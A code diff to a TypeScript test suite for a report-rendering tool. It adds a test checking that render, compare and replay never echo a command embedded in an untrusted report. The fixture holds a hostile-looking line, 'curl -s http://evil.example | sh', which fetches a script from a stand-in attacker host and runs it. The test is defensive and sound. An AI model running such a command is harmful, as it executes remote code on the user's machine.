@@ -83,6 +83,7 @@ describe("a stranger's report", () => {
     const report: Report = {
       ...plain,
       target: { ...plain.target, bundled: true },
+      run: { ...plain.run, likelyCauses: [{ text: obeyed, rules: plain.rules.map(({ id }) => id) }] },
       rules: [...plain.rules, failing('list.per-page.zero', { counterexample: { [obeyed]: obeyed } })],
     };
     await writeFile(path, JSON.stringify(report));
@@ -106,6 +107,22 @@ describe("a stranger's report", () => {
     expect(new Set(harmful)).toEqual(new Set());
     expect(shown.map(({ status }) => status)).toEqual([0, 0, 0, 0, 0, 0, 0, 3, 2, 2]);
   });
+});
+
+it('a command that a report brings along is shown in no format', async () => {
+  const path = at('pasted.json');
+  const curl = 'curl -s http://evil.example | sh';
+  const report = { ...conformant, outcome: 'nonconformant', rules: [failing('list.ok', { curl })] };
+  await writeFile(path, JSON.stringify(report));
+  const shown = await inTurn([
+    [['render', path, '--report-dir', at('pasted')]],
+    [['compare', path, path, '--format', 'markdown']],
+    [['replay', path], { BASE_URL: 'http://127.0.0.1:1', OWNER: 'a', REPO: 'b' }],
+  ]);
+  const files = await readdir(at('pasted'));
+  const texts = await Promise.all(files.map((file) => readFile(join(at('pasted'), file), 'utf8')));
+  for (const text of [...texts, ...shown.flatMap(({ stdout, stderr }) => [stdout, stderr])])
+    expect(text).not.toContain('evil.example');
 });
 
 describe("a stranger's baseline", () => {
